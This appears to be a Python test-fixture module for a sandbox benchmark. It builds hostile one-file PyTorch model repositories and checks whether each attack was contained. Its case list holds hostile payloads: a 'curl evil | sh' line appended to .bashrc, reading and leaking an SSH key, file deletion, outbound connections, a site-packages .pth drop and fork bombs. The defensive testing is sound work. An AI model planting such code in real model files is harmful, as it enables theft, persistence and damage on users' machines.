"""Hostile model repositories for bench_hostile.py (and the sandbox tests): each builds a one-file repo whose
model does one bad thing, and says afterwards whether the bad thing happened.

A case is contained when the harm did not happen, the trace ended with a result or a one-sentence error
(no traceback), and no process it started is still running.
"""
from __future__ import annotations

import os
import socket
import sys
import threading
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

MODEL = '''import os, socket, subprocess, sys, time
import torch.nn as nn

HOME = {home!r}
OUTSIDE = {outside!r}
PORT = {port}


class Victim(nn.Module):
    def __init__(self, hidden=8):
        super().__init__()
        self.fc = nn.Linear(4, hidden)
{init}

    def forward(self, x):
{forward}
        return self.fc(x)
'''


class Listener:
    """A TCP server on loopback that records whether anything connected (the model's target)."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(64)
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self):
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            self.connections += 1
            conn.close()


@dataclass
class World:
    """What the model attacks: a decoy home (with .bashrc, notes and an SSH key), a folder outside the
    repository, a loopback listener, and a marker in the environment of every process the trace starts."""

    root: Path
    listener: Listener
    marker: str
    home: Path = field(init=False)
    outside: Path = field(init=False)

    def __post_init__(self):
        self.home, self.outside = self.root / "home", self.root / "outside"
        (self.home / ".ssh").mkdir(parents=True)
        self.outside.mkdir()
        (self.home / ".bashrc").write_text("# decoy bashrc\n")
        (self.home / "notes.md").write_text("my notes\n")
        (self.home / ".ssh" / "id_rsa").write_text("SECRET-KEY-0123456789\n")

    def survivors(self, spare=()) -> list[int]:
        """Processes that carry the marker in their environment (started by a trace), still alive; `spare`:
        a warm tracing child's own processes, which wait between traces."""
        found = []
        for name in os.listdir("/proc"):
            if not name.isdigit() or int(name) == os.getpid() or int(name) in spare:
                continue
            try:
                environ = Path(f"/proc/{name}/environ").read_bytes()
                state = Path(f"/proc/{name}/stat").read_text().rsplit(")", 1)[1].split()[0]
            except OSError:
                continue
            if self.marker.encode() in environ and state != "Z":
                found.append(int(name))
        return found


@dataclass
class Case:
    """One hostile model: its code (in __init__ or forward) and how to tell whether it did harm."""

    name: str
    init: str = ""
    forward: str = ""
    harmed: Callable[[World, object], bool] = lambda world, result: False
    timeout: float = 120.0


def _indent(code: str) -> str:
    return "\n".join("        " + line for line in code.strip().splitlines()) if code.strip() else "        pass"


def build(case: Case, world: World) -> Path:
    repo = world.root / ("repo_" + "".join(c if c.isalnum() else "_" for c in case.name))
    repo.mkdir()
    (repo / "model.py").write_text(MODEL.format(home=str(world.home), outside=str(world.outside),
                                                port=world.listener.port, init=_indent(case.init),
                                                forward=_indent(case.forward)))
    return repo


def _site_packages() -> Path:
    import sysconfig

    return Path(sysconfig.get_paths()["purelib"])


PTH = "zz_reader_hostile.pth"
_FORK_50 = """
for _ in range(50):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            time.sleep(300)
        os._exit(0)
    os.wait()
"""
_BOMB_200 = """
for _ in range(200):
    if os.fork() == 0:
        os.setsid()
        time.sleep(300)
        os._exit(0)
"""


def _text_of(result) -> str:
    return repr(result.to_json()) if result is not None else ""


CASES = [
    Case("write outside the repository", "open(OUTSIDE + '/pwned.txt', 'w').write('x')",
         harmed=lambda w, r: (w.outside / "pwned.txt").exists()),
    Case("append to ~/.bashrc", "open(HOME + '/.bashrc', 'a').write('curl evil | sh\\n')",
         harmed=lambda w, r: "evil" in (w.home / ".bashrc").read_text()),
    Case("delete a file in home", "os.remove(HOME + '/notes.md')",
         harmed=lambda w, r: not (w.home / "notes.md").exists()),
    Case("read ~/.ssh", "raise RuntimeError('stolen ' + open(HOME + '/.ssh/id_rsa').read())",
         harmed=lambda w, r: "SECRET-KEY" in _text_of(r)),
    Case("loopback connection", "socket.create_connection(('127.0.0.1', PORT), timeout=5).sendall(b'pwned')",
         harmed=lambda w, r: w.listener.connections > 0),
    Case("outbound connection",
         "socket.create_connection(('1.1.1.1', 80), timeout=5)\nraise RuntimeError('OUTBOUND-CONNECTED')",
         harmed=lambda w, r: "OUTBOUND-CONNECTED" in _text_of(r)),
    Case("os.system curl", "os.system(f'curl -s -m 5 http://127.0.0.1:{PORT}/x >/dev/null 2>&1')",
         harmed=lambda w, r: w.listener.connections > 0),
    Case(".pth into site-packages", f"import sysconfig\nopen(sysconfig.get_paths()['purelib'] + '/{PTH}', 'w')"
                                    ".write('import os\\n')",
         harmed=lambda w, r: (_site_packages() / PTH).exists()),
    Case("50 double-forked setsid children", _FORK_50),
    Case("fork bomb bounded at 200", _BOMB_200),
    Case("infinite loop", forward="while True:\n    pass", timeout=60.0),
    Case("os._exit", "os._exit(3)"),
    Case("segfault", "import ctypes\nctypes.string_at(0)"),
    Case("100 GB allocation", "self.blob = bytearray(100 * 2**30)"),
]


def cleanup(world: World, spare=()) -> None:
    """Undo what an uncontained case may have left (the .pth file, surviving processes but `spare`)."""
    stray = _site_packages() / PTH
    if stray.exists():
        stray.unlink()
    for pid in world.survivors(spare):
        try:
            os.kill(pid, 9)
        except OSError:
            pass
